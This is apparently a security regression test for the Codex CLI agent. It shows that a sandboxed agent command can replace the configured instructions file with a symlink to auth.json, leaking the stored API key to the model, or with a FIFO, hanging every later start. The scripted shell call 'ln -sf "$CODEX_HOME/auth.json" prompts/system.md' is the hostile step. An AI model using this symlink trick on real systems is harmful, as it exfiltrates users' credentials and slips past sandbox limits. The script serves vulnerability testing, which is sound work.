#!/usr/bin/env python3
"""07: `model_instructions_file` / `experimental_instructions_file` given relative (resolved
against the session's cwd: the workspace) -- e.g. a team prompt kept in the repository,
`prompts/system.md`, set in config.toml or in a trusted project's .codex/config.toml -- is read by
codex at every start with a plain `Path.read_text()`: no read_regular, no $CODEX_HOME refusal,
no check that it is still a regular file in the workspace (the third pass 09 fix covered
AGENTS.md only).  A sandboxed command replaces it with a symlink to $CODEX_HOME/auth.json: at
the next start the stored API key is the model's base instructions (sent to the model).
The same file made a FIFO hangs every later start (checked below with a 20 s bound), /dev/zero eats memory.
Exit 1 while vulnerable, 0 otherwise, 2 could not run."""
import json, os, shutil, subprocess, sys, tempfile, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness

SECRET = "sk-instr-5e3a9d01"
root = tempfile.mkdtemp(prefix="a4-07-", dir="/var/tmp")
home, ch, ws = (os.path.join(root, d) for d in ("home", "codexhome", "ws"))
for d in (home, ch, ws):
    os.makedirs(d)
os.makedirs(os.path.join(ws, "prompts"))
with open(os.path.join(ws, "prompts", "system.md"), "w") as f:
    f.write("You are our team's coding agent.\n")
with open(os.path.join(ch, "auth.json"), "w") as f:
    f.write('{"OPENAI_API_KEY": "%s"}\n' % SECRET)
os.chmod(os.path.join(ch, "auth.json"), 0o600)

bodies = []
calls = {"n": 0}
session1 = [("shell", {"command": ["sh", "-c", 'ln -sf "$CODEX_HOME/auth.json" prompts/system.md && ls -l prompts']})]
class H(BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_POST(self):
        raw = self.rfile.read(int(self.headers["Content-Length"]))
        bodies.append(raw.decode("utf-8", "replace"))
        body = json.loads(raw)
        outs = [it for it in body.get("input", []) if it.get("type") == "function_call_output"]
        nxt = session1[len(outs)] if phase[0] == 1 and len(outs) < len(session1) else None
        self.send_response(200); self.send_header("Content-Type", "text/event-stream"); self.end_headers()
        calls["n"] += 1
        item = ({"type": "message", "role": "assistant", "id": "m", "content": [{"type": "output_text", "text": "done"}]}
                if nxt is None else
                {"type": "function_call", "name": nxt[0], "call_id": "c%d" % calls["n"], "arguments": json.dumps(nxt[1]), "id": "f%d" % calls["n"]})
        for e in ({"type": "response.created", "response": {"id": "r"}}, {"type": "response.output_item.done", "item": item},
                  {"type": "response.completed", "response": {"id": "r", "usage": {"input_tokens": 1, "output_tokens": 1, "total_tokens": 2}}}):
            self.wfile.write(("event: %s\ndata: %s\n\n" % (e["type"], json.dumps(e))).encode())
phase = [1]
srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
harness.write_config(ch, srv, 'model_instructions_file = "prompts/system.md"\nsandbox_mode = "workspace-write"\napproval_policy = "never"')
env = dict(os.environ, HOME=home, CODEX_HOME=ch, X_KEY="dummy")
argv = [harness.CODEX, "exec", "--skip-git-repo-check", "-C", ws]
vuln = False
try:
    p1 = subprocess.run(argv + ["session 1"], env=env, capture_output=True, text=True, timeout=120)
    link = os.path.join(ws, "prompts", "system.md")
    print("session 1 rc=%d; prompts/system.md is now %s" % (p1.returncode, os.readlink(link) if os.path.islink(link) else "a file"))
    phase[0] = 2
    del bodies[:]
    p2 = subprocess.run(argv + ["session 2"], env=env, capture_output=True, text=True, timeout=120)
    sent = any(SECRET in b for b in bodies)
    print("session 2 rc=%d; auth.json's key in what was sent to the model: %s" % (p2.returncode, sent))
    vuln = vuln or sent
    # FIFO variant: a start that blocks for ever
    os.unlink(link); os.mkfifo(link)
    try:
        subprocess.run(argv + ["session 3"], env=env, capture_output=True, text=True, timeout=20)
        print("FIFO: session 3 ended")
    except subprocess.TimeoutExpired:
        print("FIFO: session 3 still blocked after 20 s (killed)")
        vuln = True
finally:
    srv.shutdown()
    shutil.rmtree(root, ignore_errors=True)
if vuln:
    print("VULNERABLE: codex reads a model-replaceable instructions file without read_regular's checks")
    sys.exit(1)
print("held"); sys.exit(0)
